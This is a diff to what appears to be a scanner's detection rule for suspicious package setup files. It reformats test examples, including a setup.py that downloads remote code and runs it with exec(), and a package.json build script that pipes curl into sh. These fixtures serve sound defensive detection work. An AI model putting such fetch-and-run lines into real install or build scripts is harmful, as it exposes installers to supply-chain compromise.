@@ -99,10 +99,19 @@ SIGNAL = Signal(
             path="setup.py",
             line=4,
         ),
-        Example("python", 'import os\nfrom urllib.request import urlopen\nexec(urlopen("https://example.org/a").read())\n', path="setup.py", line=3),
+        Example(
+            "python",
+            'import os\nfrom urllib.request import urlopen\nexec(urlopen("https://example.org/a").read())\n',
+            path="setup.py",
+            line=3,
+        ),
     ),
     stays_quiet=(
-        Example("python", 'from setuptools import setup\n\nmeta = {}\nwith open("a/version.py") as f:\n    exec(f.read(), meta)\nsetup()\n', path="setup.py"),
+        Example(
+            "python",
+            'from setuptools import setup\n\nmeta = {}\nwith open("a/version.py") as f:\n    exec(f.read(), meta)\nsetup()\n',
+            path="setup.py",
+        ),
         Example(
             "json",
             '{\n  "name": "a",\n  "scripts": {\n    "build": "curl https://example.org/a.sh | sh",\n    "test": "node t.js"\n  }\n}\n',
